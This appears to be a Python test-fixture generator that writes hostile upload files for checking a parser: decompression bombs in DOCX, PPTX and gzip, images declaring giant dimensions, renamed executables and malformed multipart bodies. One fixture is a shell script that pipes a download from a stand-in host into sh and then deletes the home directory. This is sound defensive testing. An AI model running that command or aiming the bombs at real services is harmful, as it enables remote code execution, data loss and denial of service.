#!/usr/bin/env python3
"""Writes the hostile files of scripts/hostile into a directory (never committed: made on each run).

Usage: hostile-files.py DIR
Bombs small on disk that inflate when parsed, images with huge declared dimensions, renamed
executables and broken multipart bodies. Only the standard library.
"""
import gzip
import os
import random
import struct
import sys
import zipfile
import zlib

OOXML_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/{part}" ContentType="{ctype}"/></Types>'
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"'
    ' Target="{part}"/></Relationships>'
)


def ooxml_bomb(path, part, ctype, head, unit, tail, inflated_mb):
    """An OOXML package whose main part inflates to about inflated_mb MB of XML (streamed into the zip)."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("[Content_Types].xml", OOXML_TYPES.format(part=part, ctype=ctype))
        z.writestr("_rels/.rels", RELS.format(part=part))
        chunk = unit * (1024 * 1024 // len(unit))
        with z.open(part, "w", force_zip64=True) as w:
            w.write(head.encode())
            for _ in range(inflated_mb):
                w.write(chunk.encode())
            w.write(tail.encode())


def many_entries(path, count):
    """A zip (named .docx by the caller) with count empty entries: its central directory alone is huge."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:
        z.writestr("[Content_Types].xml", OOXML_TYPES.format(
            part="word/document.xml",
            ctype="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"))
        for i in range(count):
            z.writestr("e/%x" % i, b"")


def png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def huge_png(path, width, height):
    """A PNG that declares width x height pixels (RGBA) with a few rows of zlib data."""
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    rows = zlib.compress(b"\x00" * (1 + min(width, 1 << 20) * 4) * 4, 9)
    with open(path, "wb") as f:
        f.write(b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", ihdr) + png_chunk(b"IDAT", rows) + png_chunk(b"IEND", b""))


def huge_jpeg(path):
    """A baseline JPEG header declaring 65500 x 65500 pixels, with a little entropy-coded garbage."""
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, 65500, 65500, 3) + b"\x01\x11\x00\x02\x11\x01\x03\x11\x01"
    dqt = b"\xff\xdb" + struct.pack(">H", 67) + b"\x00" + bytes(range(1, 65))
    dht = b"\xff\xc4" + struct.pack(">H", 31) + b"\x00" + b"\x00\x01\x05\x01\x01\x01\x01\x01\x01" + b"\x00" * 7 + bytes(range(12))
    sos = b"\xff\xda" + struct.pack(">HB", 12, 3) + b"\x01\x00\x02\x11\x03\x11\x00\x3f\x00"
    with open(path, "wb") as f:
        f.write(b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00")
        f.write(dqt + sof + dht + sos + b"\x00" * 4096 + b"\xff\xd9")


def huge_gif(path):
    """A GIF89a with a 65535 x 65535 screen and image, whose LZW data is a few bytes."""
    with open(path, "wb") as f:
        f.write(b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\x00\x00" + b"\x00\x00\x00\xff\xff\xff")
        f.write(b"\x2c" + struct.pack("<HHHH", 0, 0, 65535, 65535) + b"\x00")
        f.write(b"\x02\x02\x44\x01\x00\x3b")


def gzip_stream(path, head, unit, total_mb, tail):
    """gzip of head + unit repeated to total_mb MB + tail, written without holding it in memory."""
    chunk = unit * (1024 * 1024 // len(unit))
    with gzip.open(path, "wb", compresslevel=9) as g:
        g.write(head)
        for _ in range(total_mb):
            g.write(chunk)
        g.write(tail)


def write(path, data):
    with open(path, "wb") as f:
        f.write(data)


def main():
    out = sys.argv[1]
    j = lambda name: os.path.join(out, name)  # noqa: E731

    # HTML of 30 MB (a parser that holds the DOM would need several times that).
    with open(j("big.html"), "w") as f:
        f.write("<!doctype html><html><body>")
        row = "<div><p>hostile</p><span>" + "x" * 100 + "</span></div>\n"
        for _ in range(30 * 1024 * 1024 // len(row)):
            f.write(row)
        f.write("</body></html>")
    # DOCX / PPTX whose one XML part inflates to 300 MB.
    ooxml_bomb(j("bomb.docx"), "word/document.xml",
               "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
               '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>',
               "<w:p><w:r><w:t>aaaaaaaa</w:t></w:r></w:p>", "</w:body></w:document>", 300)
    ooxml_bomb(j("bomb.pptx"), "ppt/slides/slide1.xml",
               "application/vnd.openxmlformats-officedocument.presentationml.slide+xml",
               '<?xml version="1.0"?><p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"'
               ' xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree>',
               "<p:sp><p:txBody><a:p><a:r><a:t>bbbbbbbb</a:t></a:r></a:p></p:txBody></p:sp>",
               "</p:spTree></p:cSld></p:sld>", 300)
    # 500,000 entries.
    many_entries(j("entries.docx"), 500_000)
    huge_png(j("huge.png"), 2_000_000_000, 2_000_000_000)
    huge_png(j("wide.png"), 1_000_000, 100_000)
    huge_jpeg(j("huge.jpg"))
    huge_gif(j("huge.gif"))

    # Renamed executables.
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 62, 1) + os.urandom(4000)
    pe = b"MZ\x90\x00" + b"\x00" * 56 + struct.pack("<I", 64) + b"PE\x00\x00" + struct.pack("<H", 0x8664) + os.urandom(4000)
    write(j("elf.bin"), elf)
    write(j("pe.bin"), pe)
    write(j("shell.bin"), b"#!/bin/sh\nset -e\ncurl -s http://evil.example/x | sh\nrm -rf \"$HOME\"\n")

    # Bodies compressed with gzip that inflate a lot (Content-Encoding: gzip).
    gzip_stream(j("json.gz"), b'{"name":"', b"a", 50, b'"}')
    gzip_stream(j("zeros.gz"), b"", b"\x00", 200, b"")
    # A .txt upload whose bytes are a gzip bomb.
    gzip_stream(j("bomb-gz.bin"), b"", b"A", 300, b"")

    # Broken multipart bodies (the caller picks the Content-Type).
    b = "hostileBoundary"
    part = ('--{b}\r\nContent-Disposition: form-data; name="name"\r\n\r\nHostile\r\n'
            '--{b}\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n'
            'Content-Type: text/plain\r\n\r\nhello\r\n').format(b=b)
    write(j("mp-unterminated.bin"), part.encode())
    write(j("mp-no-boundary.bin"), (part + "--" + b + "--\r\n").encode())
    big_header = "X-" + "h" * 10 + ": " + "v" * (256 * 1024)
    write(j("mp-huge-part-header.bin"), (
        '--{b}\r\nContent-Disposition: form-data; name="file"; filename="a.txt"\r\n{h}\r\n\r\nhello\r\n--{b}--\r\n'
        .format(b=b, h=big_header)).encode())
    write(j("mp-huge-filename.bin"), (
        '--{b}\r\nContent-Disposition: form-data; name="file"; filename="{f}.txt"\r\n\r\nhello\r\n--{b}--\r\n'
        .format(b=b, f="n" * (512 * 1024))).encode())
    write(j("mp-many-parts.bin"), ("".join(
        '--{b}\r\nContent-Disposition: form-data; name="p{i}"\r\n\r\nx\r\n'.format(b=b, i=i) for i in range(100_000))
        + "--" + b + "--\r\n").encode())
    # Fixed bytes, not fresh ones each run: one random body in a few hundred makes RESTEasy Reactive's
    # MultipartParser throw ArrayIndexOutOfBoundsException, and the request then goes unanswered (an upstream
    # defect, noted in docs/known-issues.md); a CI check must not depend on the draw.
    write(j("mp-garbage.bin"), random.Random(8192).randbytes(8192))
    write(j("mp-no-disposition.bin"), ('--{b}\r\nContent-Type: text/plain\r\n\r\nhello\r\n--{b}--\r\n'.format(b=b)).encode())


if __name__ == "__main__":
    main()
